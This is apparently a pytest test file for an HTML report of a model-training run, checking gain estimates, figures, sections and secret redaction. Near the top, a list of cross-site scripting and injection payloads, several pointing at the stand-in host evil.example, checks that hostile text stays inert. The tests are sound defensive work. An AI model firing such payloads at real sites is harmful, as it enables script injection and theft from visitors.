"""The report: right numbers first, whole without a network, and dead to hostile text."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from xml.etree.ElementTree import Element

import html5lib
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from fabricated import fabricate_run

from curation.artefacts import draw_rows, round_rows
from curation.tallies import round_sums
from ground.errors import DataError
from packtrain import curation_figures, figures
from packtrain.charts import Span
from packtrain.report import page, write_report
from packtrain.samples import comparisons, newest_sample
from packtrain.verdict import Gain, gain_between, gains, headline, paired_change
from rollout.passk import Estimate

PAYLOADS = (
    "<script>alert(1)</script>",
    "</p><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</style><style>*{background:url(//evil.example)}</style>",
    "</title><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "{{ 7 * 7 }}{% import os %}",
    "<!--><script>alert(1)</script>-->",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x'>",
    "<form action=//evil.example><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example><link rel=stylesheet href=x>",
    "\x1b]0;title\x07\x1b[31mred\u202etxt.exe",
    "<object data=x><embed src=x>",
    "<details open ontoggle=alert(1)>",
    "]]><script>alert(1)</script><![CDATA[",
)
PASSIVE = re.findall(
    r"\w+",
    "html head body main header footer meta title style h1 h2 h3 p ul li div span b table tbody tr "
    "th td figure figcaption details summary pre svg line rect text circle polyline",
)


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A whole fabricated run."""
    return fabricate_run(tmp_path_factory.mktemp("runs") / "made")


def nodes(html: str) -> Iterator[Element]:
    """Every element of a page as a browser would parse it."""
    tree = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
    return (element for element in tree.iter() if isinstance(element.tag, str))


def active_nodes(html: str) -> list[str]:
    """Elements and attributes that could run, load, send or style anything."""
    found = []
    for element in nodes(html):
        tag = element.tag.rsplit("}", 1)[-1]
        if tag not in PASSIVE:
            found.append(tag)
        names = [name for name in element.attrib if name.startswith("on") or name == "style"]
        found += [f"{tag}.{name}" for name in names]
        found += [f"{tag}.{name}" for name in ("href", "src", "action") if name in element.attrib]
    return found


def test_hostile_text_anywhere_stays_text(tmp_path: Path) -> None:
    payload = "\n".join(PAYLOADS)
    html = page(fabricate_run(tmp_path / "made", text=payload, num_prompts=12))
    assert active_nodes(html) == []
    elements = list(nodes(html))
    assert sum(element.tag == "style" for element in elements) == 1
    assert sum(element.tag == "meta" for element in elements) == 4
    shown = "".join("".join(element.itertext()) for element in elements if element.tag == "body")
    assert "<script>alert(1)</script>" in shown
    assert "{{ 7 * 7 }}" in shown
    assert not set("\x1b\x07\u202e") & set(html)


def test_the_check_for_active_nodes_sees_them() -> None:
    seen = active_nodes("<p onclick=x>a</p><script>1</script><a href=x>b</a><p style=x>c</p>")
    assert seen == ["p.onclick", "script", "a", "a.href", "p.style"]


def test_secrets_in_prompts_answers_and_rows_are_not_passed_on(tmp_path: Path) -> None:
    secret = "hf_abcdefghijklmnopqrst"
    run = fabricate_run(tmp_path / "made", text=f"{'x' * 1490}{secret} said", num_prompts=12)
    html = page(run)
    assert "hf_" not in html and "[redacted]"[:5] in html
    assert newest_sample(run / "rl").count("hf_") == 0
    rows = [{"id": "a", "messages": [], "capability": f"password: {secret}"}]
    pq.write_table(pa.Table.from_pylist(rows), run / "prune" / "kept.parquet")
    assert "password: [redacted]" in page(run) and "hf_" not in page(run)


def test_the_policy_names_exactly_the_style_of_the_page(run: Path) -> None:
    html = page(run)
    style = html.split("<style>")[1].split("</style>")[0]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    policy = html.split('Content-Security-Policy" content="')[1].split('"')[0]
    assert policy.replace("&#39;", "'").startswith(
        f"default-src 'none'; style-src 'sha256-{digest}'"
    )


def test_the_page_loads_nothing(run: Path) -> None:
    html = page(run)
    assert not re.search(r"https?://|url\(|@import", html.replace("http://www.w3.org", ""))


def test_the_verdict_comes_first_and_has_the_numbers_of_the_files(run: Path) -> None:
    html = page(run)
    assert html.index(headline(run)) < html.index("<h2>")
    for gain in gains(run):
        assert gain.sentence in html.replace("&#39;", "'")


def test_every_section_is_there(run: Path) -> None:
    html = page(run)
    for heading in (
        *("Accuracy by model", "pass@1 by capability", "pass@1 by difficulty", "Entropy by model"),
        *("Corner cases by model", "RL: answers that ended in an error"),
        *("SFT loss", "RL: reward and pass rate", "RL: effective sample size", "Filter funnel"),
        *("Trainer and rollout workers", "What pruning kept", "The same prompts, before and after"),
        *("What the curriculum knew", "Prompts by what is known of them"),
        *("Pass rates, believed and shown", "The prompts that were drawn most"),
        *("What another fraction would keep", "Rows left, by capability"),
        *("Ledger", "Environment", "Recipe"),
    ):
        assert heading in html, heading


def test_the_page_says_who_waited_in_rl(tmp_path: Path) -> None:
    run = fabricate_run(tmp_path / "made", num_prompts=4)
    speeds = {"learner_seconds_per_sample": 0.03, "rollout_seconds_per_sample": 0.01, "workers": 1}
    assert "rollout idles" not in page(run)
    with (run / "rl" / "metrics.jsonl").open("a") as file:
        file.write(json.dumps({"step": 99, **speeds}) + "\n")
    told = "RL: rollout idles 67% of the time: give the learner 75% of the devices."
    assert told in page(run)


def test_a_gain_is_paired_by_prompt() -> None:
    assert paired_change([0.5, 0.5, 0.5]) == Estimate(0.5, 0.5, 0.5)
    change = paired_change([1.0, 0.0] * 50)
    assert change.mean == 0.5
    assert 0.38 < change.low < 0.43 and 0.57 < change.high < 0.62


def test_a_pairing_is_narrower_than_the_spread_of_the_prompts(run: Path) -> None:
    gain = gain_between(run, "rl", "dpo")
    assert gain is not None and gain.num_prompts == 120
    assert gain.change.high - gain.change.low < 0.03


def test_a_gain_that_may_be_nothing_is_called_so() -> None:
    unclear = Gain("rl", "dpo", Estimate(-0.002, -0.011, 0.007), 512)
    assert unclear.sentence == (
        "DPO made no clear difference to pass@1: -0.2 points "
        "(95% interval -1.1 to +0.7, 512 prompts)."
    )
    clear = Gain("sft", "rl", Estimate(0.314, 0.28, 0.349), 512)
    assert clear.sentence.startswith("RL added 31.4 points of pass@1 over SFT (95% interval +28.0")


def test_the_steps_of_an_abandoned_attempt_are_not_drawn(tmp_path: Path) -> None:
    run = fabricate_run(tmp_path / "made", num_prompts=4)
    steps = [
        {"step": step, "loss": loss} for step, loss in ((1, 4.0), (2, 9.0), (3, 9.0), (2, 3.0))
    ]
    text = "".join(json.dumps(step) + "\n" for step in steps)
    (run / "sft" / "metrics.jsonl").write_text(text + '{"step": 3, "lo')
    rows = figures.steps(run, "sft")
    assert [(row["step"], row["loss"]) for row in rows] == [(1, 4.0), (2, 3.0)]


@pytest.mark.parametrize(
    ("after", "expected"),
    [
        ([0, 0, 0, 0], "pass@1 did not change clearly: 50.0% (base), then 50.0% (SFT)."),
        ([1, -1, 0, 0], "pass@1 did not change clearly: 50.0% (base), then 50.0% (SFT)."),
        ([4, 4, 4, 4], "pass@1 rose from 50.0% (base) to 75.0% (SFT)."),
        ([-4, -4, -4, -4], "pass@1 fell from 50.0% (base) to 25.0% (SFT)."),
        ([8, 0, 0, -1], "pass@1 did not change clearly: 50.0% (base), then 60.9% (SFT)."),
    ],
)
def test_the_headline_says_what_the_pairing_can_tell(
    tmp_path: Path, after: list[int], expected: str
) -> None:
    """Four prompts of 16 answers, 8 of them right before."""
    for place, counts in (("base", [8] * 4), ("sft", [8 + change for change in after])):
        folder = tmp_path / place / "evaluation"
        folder.mkdir(parents=True)
        mean = sum(counts) / 64
        scores = {"pass@1": {"mean": mean, "low": mean, "high": mean}}
        (folder / "evaluation.json").write_text(json.dumps(scores))
        rows = [{"id": str(i), "successes": n, "trials": 16} for i, n in enumerate(counts)]
        pq.write_table(pa.Table.from_pylist(rows), folder / "prompts.parquet")
    assert headline(tmp_path) == expected


def test_an_arm_is_judged_by_its_stage_and_the_headline_by_the_trail(tmp_path: Path) -> None:
    """Four prompts of 16 answers."""
    for place, count in (("base", 4), ("sft", 8), ("taught", 12), ("rl", 8)):
        folder = tmp_path / place / "evaluation"
        folder.mkdir(parents=True)
        scores = {"pass@1": {"mean": count / 16, "low": count / 16, "high": count / 16}}
        (folder / "evaluation.json").write_text(json.dumps(scores))
        rows = [
            {
                **{"id": str(i), "successes": count, "trials": 16, "capability": "a"},
                "messages": [{"role": "user", "content": f"2 + {i} ="}],
            }
            for i in range(4)
        ]
        pq.write_table(pa.Table.from_pylist(rows), folder / "prompts.parquet")
    found = gains(tmp_path)
    pairs = [(gain.before, gain.after, gain.change.mean) for gain in found]
    assert pairs == [("base", "sft", 0.25), ("sft", "rl", 0.0), ("sft", "taught", 0.25)]
    assert found[-1].sentence.startswith("Taught SFT added 25.0 points of pass@1 over SFT")
    assert headline(tmp_path) == "pass@1 rose from 25.0% (base) to 50.0% (RL)."
    changes = [case.change for case in comparisons(tmp_path)]
    assert changes == [0.25] * 4, "of RL against the base"
    (tmp_path / "base" / "evaluation" / "evaluation.json").unlink()
    pairs = [(gain.before, gain.after, gain.change.mean) for gain in gains(tmp_path)]
    assert pairs == [("sft", "rl", 0.0), ("sft", "taught", 0.25)]


def test_dpo_is_judged_by_its_corner_cases_too(run: Path) -> None:
    told = [gain.sentence for gain in gains(run)]
    assert len(told) == 4
    assert told[-1] == (
        "DPO made no clear difference to corner cases: +0.0 points "
        "(95% interval +0.0 to +0.0, 120 prompts)."
    )
    better = Gain("rl", "dpo", Estimate(-0.05, -0.06, -0.04), 512, "corner cases")
    assert better.is_good and better.sentence == (
        "DPO removed 5.0 points of corner cases against RL "
        "(95% interval -6.0 to -4.0, 512 prompts)."
    )
    worse = Gain("rl", "dpo", Estimate(0.05, 0.04, 0.06), 512, "corner cases")
    assert not worse.is_good and worse.sentence.startswith("DPO added 5.0 points of corner cases")
    assert Gain("rl", "dpo", Estimate(0.05, 0.04, 0.06), 512).is_good


def test_models_are_told_with_the_faults_of_their_answers(run: Path) -> None:
    rows = [" ".join(row.itertext()) for row in nodes(page(run)) if row.tag == "tr"]
    table = [" ".join(row.split()) for row in rows]
    assert "greedy entropy tokens cut off corner cases prompts" in table[0]
    assert table[4].startswith("DPO ") and "23.5 12.5% 18.8% 120" in table[4]
    (figure,) = figures.corner_cases(run)
    assert figure.svg.count("18.8%") == 4
    assert "DPO, truncated: 0.125 of the answers" in figure.svg


def test_the_funnel_sums_to_what_was_drawn(run: Path) -> None:
    counts = figures.ledger_counts(run)
    assert counts == {
        ("trained", ""): 240,
        ("filtered", "all-0"): 90,
        ("filtered", "all-1"): 60,
        ("withdrawn", "end"): 10,
    }


def test_cuts_say_what_meta_s_fractions_would_have_left(run: Path) -> None:
    """400 rows, 100 of each capability; four of arithmetic are unjudged and go in proportion: 2 at
    50 %, and at 95 % floor(3.8) = 3, so that 1 of 20 rows left is."""
    cuts = curation_figures.cuts(run)
    assert [cut.name for cut in cuts] == ["whole set", "50% dropped", "95% dropped"]
    assert curation_figures.cut_table(cuts) == [
        (name, [100, 50, 5]) for name in ("arithmetic", "counting", "logic", "strings")
    ]
    assert [cut.left["arithmetic", "unjudged"] for cut in cuts] == [4, 2, 1]
    assert cuts[2].left["counting", "unjudged"] == 0
    (figure,) = curation_figures.labels_left(cuts)
    assert "95% dropped, unjudged: 0.05 of the rows" in figure.svg


def test_the_curriculum_is_drawn_from_its_rounds(run: Path) -> None:
    """Version 0: nothing is known, Beta(1, 1). Version 1: half of the pool got 1 of 4."""
    status, rates, histories = (figure.svg for figure in curation_figures.curriculum(run))
    assert [status.count(f">{name}<") for name in ("active", "solved", "never solved")] == [1] * 3
    assert rates.count("<polyline") == 3
    sums = round_sums(round_rows(run), draw_rows(run))
    assert [row["mean"] for row in sums][:2] == pytest.approx([0.5, (0.5 + 2 / 6) / 2])
    assert [row["pass_rate"] for row in sums] == [1 / 8, 2 / 8, None]
    assert ">arithmetic a0<" in histories and ">strings s0<" in histories


def test_examples_show_gains_of_every_capability_and_the_largest_loss(run: Path) -> None:
    shown = comparisons(run)
    assert {each.capability for each in shown} == {"arithmetic", "counting", "logic", "strings"}
    assert [each.change for each in shown] == sorted((e.change for e in shown), reverse=True)
    assert [answer.model for answer in shown[0].answers] == ["base", "SFT", "RL", "DPO"]


def test_overlapping_work_of_a_role_becomes_one_block() -> None:
    spans = [
        Span("r/0", "rollout", 0, 2),
        Span("r/0", "rollout", 1, 3),
        Span("r/0", "rollout", 9, 10),
    ]
    assert figures.fold(spans, 0.5) == [
        Span("r/0", "rollout", 0, 3),
        Span("r/0", "rollout", 9, 10),
    ]


def test_an_unfinished_run_has_a_report_too(run: Path, tmp_path: Path) -> None:
    part = Path(shutil.copytree(run, tmp_path / "part"))
    for name in ("rl", "dpo", "sft/evaluation", "prune"):
        shutil.rmtree(part / name)
    (part / "base" / "evaluation" / "prompts.parquet").write_bytes(b"PAR1 torn")
    html = page(part)
    assert "pass@1 of the base model" in html
    assert "Filter funnel" not in html and "What pruning kept" not in html


def test_the_report_is_a_file_of_the_run(run: Path, tmp_path: Path) -> None:
    assert write_report(run) == run / "report.html"
    assert write_report(run, tmp_path / "r.html").stat().st_size < 2_000_000


def test_a_folder_that_is_no_run_is_refused(tmp_path: Path) -> None:
    with pytest.raises(DataError, match="not a run directory"):
        write_report(tmp_path)


def test_what_the_teacher_weighs_is_drawn_by_capability(tmp_path: Path) -> None:
    lines = {
        "sft": [{"step": n, "alpha/math": 0.7 - 0.1 * n, "alpha/chat": 0.7} for n in (1, 2)],
        "rl": [{"step": n, "distill_weight/logic": 0.3, "teacher_kl/logic": 0.1} for n in (1, 2)],
    }
    for stage, rows in lines.items():
        (tmp_path / stage).mkdir()
        text = "".join(json.dumps(row) + "\n" for row in rows)
        (tmp_path / stage / "metrics.jsonl").write_text(text)
    drawn = {figure.title: figure.svg for figure in figures.training(tmp_path)}
    assert list(drawn) == [
        "SFT: share of the teacher",
        "RL: weight of the teacher",
        "RL: distance from the teacher",
    ]
    assert "math" in drawn["SFT: share of the teacher"]
    assert "chat" in drawn["SFT: share of the teacher"]
